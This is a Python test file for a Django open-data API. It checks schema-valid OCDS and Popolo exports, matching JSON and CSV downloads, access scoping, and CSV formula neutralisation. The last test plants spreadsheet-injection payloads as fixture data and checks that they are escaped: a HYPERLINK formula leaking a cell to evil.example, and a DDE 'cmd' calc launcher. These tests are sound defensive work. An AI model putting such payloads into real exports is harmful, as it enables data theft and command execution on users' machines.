"""Open data per trust: JSON and CSV bulk downloads, OCDS release package, Popolo people and memberships,
each validated against the schemas in tests/api/schemas (no network)."""

import csv
import io
import json
from pathlib import Path

import pytest
from jsonschema import Draft7Validator, FormatChecker

from .helpers import assert_problem, client_with, token_for

pytestmark = pytest.mark.django_db

SCHEMAS = Path(__file__).parent / "schemas"


def validate(document: dict, schema_file: str) -> None:
    schema = json.loads((SCHEMAS / schema_file).read_text())
    errors = sorted(Draft7Validator(schema, format_checker=FormatChecker()).iter_errors(document), key=str)
    assert not errors, "\n".join(f"{list(e.absolute_path)}: {e.message}" for e in errors)


def test_ocds_release_package_for_a_trust_is_valid():
    body = client_with(token_for("dfe-liaison")).get("/api/v1/open-data/trusts/sandwell-trust/ocds.json").json()
    validate(body, "ocds-release-package.json")
    assert body["releases"], "Sandwell's demo contract should be published"
    release = body["releases"][0]
    assert release["tag"] == ["contract"]
    assert {p["name"] for p in release["parties"]} >= {"Sandwell Children's Trust"}
    assert release["buyer"]["name"].startswith("Sandwell")


def test_a_broken_release_fails_the_schema():
    # The schema really checks: a release without an ocid and with a made-up tag is refused.
    bad = {
        "uri": "https://x.test/",
        "version": "1.1",
        "publishedDate": "2026-11-01T00:00:00Z",
        "publisher": {"name": "x"},
        "releases": [{"id": "1", "date": "yesterday", "tag": ["signed"], "initiationType": "tender"}],
    }
    with pytest.raises(AssertionError):
        validate(bad, "ocds-release-package.json")


def test_popolo_people_and_memberships_are_valid_and_carry_no_contact_details():
    body = client_with(token_for("dfe-liaison")).get("/api/v1/open-data/trusts/sandwell-trust/popolo.json").json()
    validate(body, "popolo.json")
    assert body["persons"] and body["memberships"] and body["organizations"]
    person_ids = {p["id"] for p in body["persons"]}
    org_ids = {o["id"] for o in body["organizations"]}
    for membership in body["memberships"]:
        assert membership["person_id"] in person_ids and membership["organization_id"] in org_ids
    assert not any("email" in p or "phone" in p for p in body["persons"])


def test_bulk_json_and_csv_hold_the_same_records():
    c = client_with(token_for("sandwell-scrutiny"))
    bundle = c.get("/api/v1/open-data/trusts/sandwell-trust/records.json").json()
    assert bundle["trust"]["slug"] == "sandwell-trust"
    for resource in ("contracts", "obligations", "bodies", "memberships"):
        response = c.get(f"/api/v1/open-data/trusts/sandwell-trust/{resource}.csv")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        assert [r["id"] for r in rows] == [str(r["id"]) for r in bundle[resource]]
    assert bundle["contracts"]


def test_open_data_is_scoped_and_bad_names_are_404():
    sandwell = client_with(token_for("sandwell-officer"))
    assert_problem(sandwell.get("/api/v1/open-data/trusts/torbay-partnership/records.json"), 404)
    assert_problem(sandwell.get("/api/v1/open-data/trusts/sandwell-trust/secrets.csv"), 404)
    from rest_framework.test import APIClient

    assert_problem(APIClient().get("/api/v1/open-data/trusts/sandwell-trust/ocds.json"), 401)


def test_open_data_csv_neutralises_formulas_in_every_cell():
    """A name an officer typed as a formula is served as text, never as =HYPERLINK(...) a spreadsheet would run."""
    from boards.models import Body
    from tests.boards.factories import BodyFactory, MembershipFactory, PersonFactory, SeatFactory
    from trustgov.organisations.models import Council

    sandwell = Council.objects.get(slug="sandwell")
    body = BodyFactory(council=sandwell, name='=HYPERLINK("https://evil.example/?leak="&A1,"Board")')
    seat = SeatFactory(body=body, title="@SUM(A1:A9)")
    MembershipFactory(seat=seat, person=PersonFactory(council=sandwell, name="+cmd|' /C calc'!A0"))
    c = client_with(token_for("sandwell-scrutiny"))
    bodies = list(
        csv.DictReader(io.StringIO(c.get("/api/v1/open-data/trusts/sandwell-trust/bodies.csv").content.decode()))
    )
    row = next(r for r in bodies if r["id"] == str(body.pk))
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Board")'
    assert Body.objects.get(pk=body.pk).name.startswith("=HYPERLINK(")  # stored as typed, neutralised on the way out
    raw = c.get("/api/v1/open-data/trusts/sandwell-trust/memberships.csv").content.decode()
    members = [r for r in csv.DictReader(io.StringIO(raw)) if r["seat__body__name"].startswith("'=HYPERLINK(")]
    assert members and members[0]["seat__title"] == "'@SUM(A1:A9)"
    assert members[0]["person__name"] == "'+cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in csv.reader(io.StringIO(raw)) for cell in line)
